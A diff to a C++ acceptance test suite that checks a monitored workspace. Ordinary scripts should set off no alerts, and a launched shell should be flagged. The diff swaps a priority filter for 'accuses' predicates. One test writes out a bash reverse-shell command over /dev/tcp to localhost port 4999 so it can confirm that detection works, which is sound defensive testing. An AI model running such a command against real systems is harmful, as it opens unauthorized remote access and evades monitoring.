@@ -28,11 +28,6 @@ std::vector<fs::path> scripts() {
   return found;
 }
 
-bool disturbs(const Alert& alert) {
-  const std::string priority = alert["priority"];
-  return priority != "INFORMATIONAL" && priority != "DEBUG";
-}
-
 class HonestWork : public AcceptanceTest {
  protected:
   void SetUp() override {
@@ -64,8 +59,7 @@ TEST_F(HonestWork, DisturbsNobody) {
   const auto all = scripts();
   ASSERT_FALSE(all.empty());
   for (const fs::path& script : all) work(script);
-  for (const Alert& alert : distinct(alerts_so_far(*workspace_)))
-    if (disturbs(alert)) ADD_FAILURE() << alert.dump(1);
+  for (const Alert& alert : accusations(alerts_so_far(*workspace_))) ADD_FAILURE() << alert.dump(1);
 }
 
 // The same workspace does not keep quiet about what is not honest.
@@ -75,7 +69,7 @@ TEST_F(HonestWork, IsWatched) {
       workspace_->launch({"bash", "-c", "exec bash -i <>/dev/tcp/127.0.0.1/4999 >&0 2>&0"}).ok());
   const auto alert = deployment().alerts().wait_for(
       "the alert of a reverse shell",
-      [&](const Alert& one) { return of(*workspace_, one) && disturbs(one); });
+      [&](const Alert& one) { return of(*workspace_, one) && accuses(one); });
   EXPECT_TRUE(alert.ok()) << alert.status();
 }
 
